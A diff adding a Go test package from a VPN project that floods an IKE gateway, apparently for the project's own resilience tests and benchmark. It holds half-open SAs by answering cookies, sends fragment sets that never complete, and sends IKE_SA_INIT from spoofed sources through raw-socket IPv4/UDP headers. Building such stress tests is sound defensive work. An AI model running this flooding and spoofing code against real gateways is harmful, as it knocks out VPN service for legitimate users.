@@ -1,0 +1,267 @@
+// Package flood attacks a gateway's IKE side the way issue 11 did, for the
+// flood test (test/e2e) and `make bench-flood` (test/floodbench): an
+// attacker that answers cookies from its own real addresses and holds
+// half-open IKE SAs, optionally sending RFC 7383 fragment sets that never
+// complete; IKE on UDP 4500 (non-ESP marker); and IKE_SA_INIT from spoofed
+// sources. The IKE messages come from the project's own encoder and SK
+// cipher (ike.HalfOpenClient); only the spoofer's IPv4/UDP header is
+// written here (a raw socket is the only way to send from addresses the
+// host does not have).
+package flood
+
+import (
+	"context"
+	"encoding/binary"
+	"errors"
+	"fmt"
+	"math/rand/v2"
+	"net"
+	"net/netip"
+	"sync"
+	"sync/atomic"
+	"syscall"
+	"time"
+
+	"github.com/roamsec/roamsec/ike"
+	"github.com/roamsec/roamsec/test/netns"
+)
+
+// Counts is what an attack did.
+type Counts struct {
+	Sent      atomic.Uint64 // IKE_SA_INIT requests (first and cookie-carrying)
+	Cookies   atomic.Uint64 // COOKIE answers received
+	HalfOpen  atomic.Uint64 // IKE_SA_INIT answered with keys: a half-open SA on the gateway
+	Fragments atomic.Uint64 // SKF messages sent
+	Errors    atomic.Uint64 // send errors (socket buffer full, ...)
+}
+
+func (c *Counts) String() string {
+	return fmt.Sprintf("%d IKE_SA_INIT sent, %d cookies, %d half-open, %d fragments, %d send errors",
+		c.Sent.Load(), c.Cookies.Load(), c.HalfOpen.Load(), c.Fragments.Load(), c.Errors.Load())
+}
+
+// CookieAttack answers cookies from real addresses.
+type CookieAttack struct {
+	Target  netip.Addr
+	Port    uint16       // 500, or 4500 (the non-ESP marker is added)
+	Sources []netip.Addr // addresses the attacker's namespace has
+	Rate    int          // IKE_SA_INIT per second, all sources together
+	// Fragments > 1: after each IKE_SA_INIT, fragments 2..Fragments of an
+	// IKE_AUTH of that many, FragSize bytes of plaintext each; fragment 1
+	// never comes, so the set never completes.
+	Fragments, FragSize int
+	Counts              Counts
+}
+
+// Run attacks from inside ns until ctx ends.
+func (a *CookieAttack) Run(ctx context.Context, ns *netns.NS) error {
+	conns := make([]*net.UDPConn, len(a.Sources))
+	err := ns.Do(func() error {
+		for i, s := range a.Sources {
+			c, err := net.ListenUDP("udp", net.UDPAddrFromAddrPort(netip.AddrPortFrom(s, 0)))
+			if err != nil {
+				return err
+			}
+			c.SetWriteBuffer(4 << 20)
+			c.SetReadBuffer(4 << 20)
+			conns[i] = c
+		}
+		return nil
+	})
+	if err != nil {
+		for _, c := range conns {
+			if c != nil {
+				c.Close()
+			}
+		}
+		return err
+	}
+	var wg sync.WaitGroup
+	per := max(a.Rate/len(conns), 1)
+	for _, c := range conns {
+		wg.Go(func() { a.source(ctx, c, per) })
+	}
+	wg.Wait()
+	return nil
+}
+
+// source runs one address: a sender paced at rate per second and a reader
+// answering cookies and sending fragments.
+func (a *CookieAttack) source(ctx context.Context, c *net.UDPConn, rate int) {
+	dst := net.UDPAddrFromAddrPort(netip.AddrPortFrom(a.Target, a.Port))
+	var mu sync.Mutex
+	pending := map[uint64]*ike.HalfOpenClient{}
+	send := func(b []byte) {
+		if a.Port == 4500 {
+			b = append([]byte{0, 0, 0, 0}, b...) // RFC 3948 non-ESP marker
+		}
+		if _, err := c.WriteToUDP(b, dst); err != nil {
+			a.Counts.Errors.Add(1)
+		}
+	}
+	var wg sync.WaitGroup
+	wg.Go(func() {
+		buf := make([]byte, 65536)
+		for {
+			n, _, err := c.ReadFromUDP(buf)
+			if err != nil {
+				return
+			}
+			msg := buf[:n]
+			if a.Port == 4500 && len(msg) >= 4 {
+				msg = msg[4:]
+			}
+			if len(msg) < 8 {
+				continue
+			}
+			mu.Lock()
+			hc := pending[binary.BigEndian.Uint64(msg)]
+			mu.Unlock()
+			if hc == nil {
+				continue
+			}
+			a.answer(hc, msg, send, &mu, pending)
+		}
+	})
+	tick := time.NewTicker(10 * time.Millisecond)
+	defer tick.Stop()
+	var due float64
+	for ctx.Err() == nil {
+		select {
+		case <-ctx.Done():
+		case <-tick.C:
+			due += float64(rate) / 100
+			for ; due >= 1; due-- {
+				hc, err := ike.NewHalfOpenClient(nil)
+				if err != nil {
+					continue
+				}
+				mu.Lock()
+				pending[hc.SPIi] = hc
+				mu.Unlock()
+				a.Counts.Sent.Add(1)
+				send(hc.Request())
+			}
+		}
+	}
+	c.Close()
+	wg.Wait()
+}
+
+func (a *CookieAttack) answer(hc *ike.HalfOpenClient, msg []byte, send func([]byte), mu *sync.Mutex, pending map[uint64]*ike.HalfOpenClient) {
+	err := hc.Response(msg)
+	if errors.Is(err, ike.ErrCookie) {
+		a.Counts.Cookies.Add(1)
+		a.Counts.Sent.Add(1)
+		send(hc.Request())
+		return
+	}
+	mu.Lock()
+	delete(pending, hc.SPIi)
+	mu.Unlock()
+	if err != nil {
+		return
+	}
+	a.Counts.HalfOpen.Add(1)
+	if a.Fragments > 1 {
+		frags, err := hc.Fragments(a.Fragments, 2, a.Fragments, a.FragSize)
+		if err != nil {
+			return
+		}
+		for _, f := range frags {
+			send(f)
+			a.Counts.Fragments.Add(1)
+		}
+	}
+}
+
+// Spoof sends IKE_SA_INIT requests from random addresses of From (which
+// the attacker does not have: the answers, cookies, go nowhere) at Rate
+// per second.
+type Spoof struct {
+	Target netip.Addr
+	From   netip.Prefix // IPv4
+	Rate   int
+	Counts Counts
+}
+
+// Run spoofs from inside ns until ctx ends.
+func (s *Spoof) Run(ctx context.Context, ns *netns.NS) error {
+	var fd int
+	err := ns.Do(func() error {
+		var err error
+		fd, err = syscall.Socket(syscall.AF_INET, syscall.SOCK_RAW, syscall.IPPROTO_RAW) // IP_HDRINCL implied
+		if err == nil {
+			syscall.SetsockoptInt(fd, syscall.SOL_SOCKET, syscall.SO_SNDBUF, 4<<20)
+		}
+		return err
+	})
+	if err != nil {
+		return err
+	}
+	defer syscall.Close(fd)
+	// Requests are built ahead (distinct SPIs): the spoofer spends its
+	// time sending, not on Diffie-Hellman.
+	reqs := make([][]byte, 512)
+	for i := range reqs {
+		hc, err := ike.NewHalfOpenClient(nil)
+		if err != nil {
+			return err
+		}
+		reqs[i] = hc.Request()
+	}
+	dst := syscall.SockaddrInet4{Addr: s.Target.As4()}
+	tick := time.NewTicker(10 * time.Millisecond)
+	defer tick.Stop()
+	var due float64
+	pkt := make([]byte, 0, 2048)
+	base := s.From.Masked().Addr().As4()
+	span := uint32(1) << (32 - s.From.Bits())
+	for n := 0; ctx.Err() == nil; {
+		select {
+		case <-ctx.Done():
+		case <-tick.C:
+			due += float64(s.Rate) / 100
+			for ; due >= 1; due-- {
+				src := binary.BigEndian.Uint32(base[:]) + rand.Uint32N(span)
+				pkt = udp4(pkt[:0], src, s.Target.As4(), uint16(1024+rand.IntN(60000)), 500, reqs[n%len(reqs)])
+				n++
+				s.Counts.Sent.Add(1)
+				if err := syscall.Sendto(fd, pkt, 0, &dst); err != nil {
+					s.Counts.Errors.Add(1)
+				}
+			}
+		}
+	}
+	return nil
+}
+
+// udp4 writes an IPv4 header (the kernel fills in the checksum and ID of
+// an IP_HDRINCL packet) and a UDP header without checksum (RFC 768:
+// zero means none) in front of payload.
+func udp4(b []byte, src uint32, dst [4]byte, sport, dport uint16, payload []byte) []byte {
+	total := 20 + 8 + len(payload)
+	b = append(b, 0x45, 0, byte(total>>8), byte(total), 0, 0, 0x40, 0, 64, syscall.IPPROTO_UDP, 0, 0)
+	b = binary.BigEndian.AppendUint32(b, src)
+	b = append(b, dst[:]...)
+	b = binary.BigEndian.AppendUint16(b, sport)
+	b = binary.BigEndian.AppendUint16(b, dport)
+	b = binary.BigEndian.AppendUint16(b, uint16(8+len(payload)))
+	b = append(b, 0, 0)
+	return append(b, payload...)
+}
+
+// AddSources gives ns's interface ifname n addresses from p (from .1 on)
+// and returns them; route, on the gateway, p back to ns.
+func AddSources(ns *netns.NS, ifname string, p netip.Prefix, n int) ([]netip.Addr, error) {
+	var out []netip.Addr
+	a := p.Masked().Addr()
+	for range n {
+		a = a.Next()
+		if _, err := ns.Run("ip", "addr", "add", netip.PrefixFrom(a, 32).String(), "dev", ifname); err != nil {
+			return nil, err
+		}
+		out = append(out, a)
+	}
+	return out, nil
+}
